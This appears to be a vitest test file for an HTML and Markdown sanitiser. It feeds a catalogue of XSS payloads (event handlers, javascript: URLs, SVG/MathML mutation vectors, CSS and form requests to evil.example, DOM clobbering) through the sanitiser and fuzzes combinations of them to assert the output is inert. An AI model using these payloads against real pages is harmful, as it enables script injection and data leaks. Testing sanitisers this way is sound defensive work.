import fc from 'fast-check';
import { afterEach, describe, expect, it } from 'vitest';
import { sanitise } from '../../../src/renderer/render/sanitise.ts';
import { expectInert, inElement, render } from './html.ts';

/** One attack each: the classes that OWASP's filter evasion sheet and DOMPurify's documentation name. */
const VECTORS: Readonly<Record<string, string>> = {
  script: '<script>window.pwned = 1</script>',
  'script with odd case': '<ScRiPt >window.pwned = 1</sCrIpT>',
  'handler on an image': '<img src=x onerror="window.pwned = 1">',
  'handler without quotes': '<p onclick=window.pwned=1>x</p>',
  'handler after a slash': '<p/onmouseover="window.pwned=1"/title=a>x</p>',
  'javascript address': '<a href="javascript:window.pwned=1">x</a>',
  'javascript address in entities': '<a href="&#106;ava&#x73;cript&colon;window.pwned=1">x</a>',
  'javascript address with a tab': '<a href="java\tscript:window.pwned=1">x</a>',
  'javascript address behind control signs': '<a href="\u0001javascript:window.pwned=1">x</a>',
  'vbscript address': '<a href="vbscript:msgbox(1)">x</a>',
  'data address': '<a href="data:text/html,<script>window.pwned=1</script>">x</a>',
  'blob address': '<a href="blob:https://x/1">x</a>',
  'file address': '<a href="file:///etc/passwd">x</a>',
  'relative address': '<a href="/__lectern/x">x</a>',
  'protocol-relative address': '<a href="//evil.example/x">x</a>',
  'address with credentials': '<a href="https://arxiv.org@evil.example/">x</a>',
  'data image': '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  'remote image':
    '<img src="https://evil.example/pixel.png" srcset="https://evil.example/2x.png 2x">',
  svg: '<svg onload="window.pwned=1"><script>window.pwned=1</script><use href="data:image/svg+xml,x"/></svg>',
  'svg animation':
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>',
  mathml: '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>',
  'mathml action':
    '<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:1">x</maction></math>',
  'style element': '<style>* { background: url(https://evil.example/leak) }</style>',
  'style attribute': '<p style="position:fixed;inset:0;z-index:99999">x</p>',
  'style expression': '<p style="background:url(javascript:alert(1))">x</p>',
  'stylesheet link': '<link rel=stylesheet href="https://evil.example/a.css">',
  base: '<base href="https://evil.example/">',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  form: '<form action="https://evil.example/"><input name=q value=1><button>go</button></form>',
  'form by attribute':
    '<button formaction="javascript:alert(1)">x</button><input type=image src=x onerror=alert(1)>',
  iframe: '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  object: '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
  media:
    '<video autoplay src="https://evil.example/v.mp4" onloadstart="window.pwned=1"></video><audio src=x onerror=alert(1)>',
  'DOM clobbering by id': '<p id="app">x</p><a id=body name=body href="https://a.example">y</a>',
  'DOM clobbering by name':
    '<img name=getElementById><form name=body><input name=attributes></form>',
  'class of ours': '<p class="toast dialog">x</p>',
  'custom element': '<x-app is="app-shell" onfocus=alert(1) tabindex=0 autofocus>x</x-app>',
  template: '<template><script>window.pwned=1</script></template>',
  'shadow root':
    '<div><template shadowrootmode=open><script>window.pwned=1</script></template></div>',
  'mutation through noscript':
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'mutation through math and style':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'mutation through svg and style': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  'mutation through form nesting':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'mutation through select':
    '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>">',
  'comment that closes early': '<!--><img src=x onerror=alert(1)>-->',
  CDATA: '<![CDATA[><img src=x onerror=alert(1)>]]>',
  'processing instruction': '<?xml-stylesheet href="javascript:alert(1)"?><p>x</p>',
  'title that ends a tag': '<p title="&quot;><img src=x onerror=alert(1)>">x</p>',
  'placeholder of ours':
    '<span data-math="inline" data-image="https://a.example/x.png" data-evil=1>\\href{javascript:alert(1)}{x}</span>',
  popover: '<div popover id=p>x</div><button popovertarget=p>x</button><dialog open>x</dialog>',
};

afterEach(() => {
  expect('pwned' in window).toBe(false);
  document.body.replaceChildren();
});

describe('sanitise', () => {
  it.each(Object.entries(VECTORS))('leaves nothing of: %s', (_name, html) => {
    const element = inElement(sanitise(html));
    document.body.append(element);
    expectInert(element);
    expect(element.querySelector('img, svg, math, style, form, [style], [class], [id]')).toBeNull();
  });

  it.each(Object.entries(VECTORS))('leaves nothing after a second parse of: %s', (_name, html) => {
    const again = document.createElement('div');
    again.innerHTML = inElement(sanitise(html)).innerHTML;
    expectInert(again);
  });

  it('leaves nothing of attacks cut, joined and nested at random', () => {
    const pieces = fc.constantFrom(
      ...Object.values(VECTORS).flatMap((html) => [
        html,
        html.slice(0, html.length / 2),
        html.slice(html.length / 2),
      ]),
      ...[
        '<svg>',
        '<math>',
        '<mtext>',
        '<table>',
        '</p>',
        '<!--',
        '-->',
        '<style>',
        '</style>',
        '"',
        "'",
        '>',
        '<',
      ],
    );
    fc.assert(
      fc.property(fc.array(pieces, { minLength: 1, maxLength: 6 }), (parts) => {
        const element = inElement(sanitise(parts.join('')));
        expectInert(element);
        const again = document.createElement('div');
        again.innerHTML = element.innerHTML;
        expectInert(again);
      }),
      { numRuns: 400 },
    );
  });

  it('keeps what rendered texts need', () => {
    const html =
      '<p>a <strong>b</strong> <em>c</em> <a href="https://arxiv.org/abs/1" title="t">d</a></p>' +
      '<ol start="3"><li>e</li></ol><table><thead><tr><th align="right">f</th></tr></thead></table>';
    expect(inElement(sanitise(html)).innerHTML).toBe(html);
  });
});

describe('rendered text', () => {
  it.each(Object.entries(VECTORS))('is inert with this in Markdown: %s', (_name, html) => {
    for (const text of [html, `- **a**: ${html}\n  - ${html}`, `[${html}](${html})`, `$${html}$`]) {
      const element = render(text);
      document.body.append(element);
      expectInert(element);
      expect(element.querySelector('img')).toBeNull();
    }
  });

  it.each([
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](data:text/html,x)',
    '[x][r]\n\n[r]: javascript:alert(1)',
    '<javascript:alert(1)>',
    '![x](javascript:alert(1))',
    '![x](https://evil.example/a.png)',
    '[x](https://a.example "\\" onmouseover=alert(1) \\"")',
    '`<img src=x onerror=alert(1)>`',
    '```html\n<script>alert(1)</script>\n```',
    '```"><img src=x onerror=alert(1)>\nx\n```',
    '$\\href{javascript:alert(1)}{x}$',
    '$\\includegraphics{https://evil.example/x.png}$',
    '$\\htmlId{app}{x} \\htmlStyle{position:fixed}{x} \\htmlClass{a}{b} \\htmlData{a=b}{c}$',
    '$\\url{javascript:alert(1)}$',
    '$<img src=x onerror=alert(1)>$',
    '| <img src=x onerror=alert(1)> |\n|--|\n| <script>1</script> |',
  ])('is inert: %s', (text) => {
    const element = render(text);
    expectInert(element);
    expect(element.querySelector('img, script')).toBeNull();
  });

  it('holds nothing outside the allow-list, whatever the Markdown', () => {
    const piece = fc.oneof(
      fc.constantFrom(
        ...[
          '*',
          '**',
          '_',
          '`',
          '```\n',
          '- ',
          '\n',
          '\n\n',
          '  ',
          '> ',
          '# ',
          '| a |\n|--|\n',
          '[',
          '](',
          ')',
          '![',
        ],
        ...[
          '<',
          '>',
          '"',
          "'",
          '$',
          '$$',
          '\\(',
          '\\)',
          '\\',
          '&',
          '&#x6A;',
          'javascript:',
          'https://a.b/',
          'mailto:',
          ' a@b.c ',
          '<br>',
        ],
        ...[
          '<sup>',
          '</sup>',
          '<!--',
          '-->',
          '\\href{',
          '}{',
          '}',
          '^',
          '_',
          '\\frac',
          '논문',
          'text',
          ' onerror=x ',
        ],
      ),
      fc.constantFrom(...Object.values(VECTORS)),
      fc.string({ maxLength: 6 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 25 }), (parts) => {
        expectInert(render(parts.join('')));
      }),
      { numRuns: 500 },
    );
  });
});
